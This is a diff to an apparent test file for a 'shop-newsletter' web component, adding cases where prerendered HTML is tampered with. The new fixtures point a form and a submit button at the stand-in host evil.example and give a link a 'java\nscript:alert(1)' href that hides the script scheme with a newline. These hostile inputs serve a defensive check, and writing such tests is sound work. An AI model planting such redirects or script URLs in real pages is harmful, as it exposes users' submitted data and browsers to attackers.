@@ -15,7 +15,14 @@ const FOREIGN: Readonly<Record<string, readonly [html: string, said: RegExp | un
     /<shop-newsletter> was prerendered with other values or for another place, or changed since, so/,
   ],
   'with a mark without platforms': [HTML.replace(/&quot;platforms&quot;:.*?\]\],/, ''), undefined],
+  // The warning is the same as the one before, and told once.
   'with a mark of an invalid place': [HTML.replace('&quot;inside&quot;:{', '$&&quot;[&quot;:true'), undefined],
+  'with a form that sends elsewhere': [
+    HTML.replace('<form', '$& method="post" action="https://evil.example"'),
+    undefined,
+  ],
+  'with a button that sends elsewhere': [HTML.replace('type="submit"', '$& formaction="//evil.example"'), undefined],
+  'with a link that runs a script': [HTML.replace(/ href="[^"]*"/, ' href=" java\nscript:alert(1)"'), undefined],
   'that a filter has changed': [
     HTML.replace(/<div class="[^"]*honeypot.*?<\/div>/, ''),
     /the page changed its markup before the script started/,
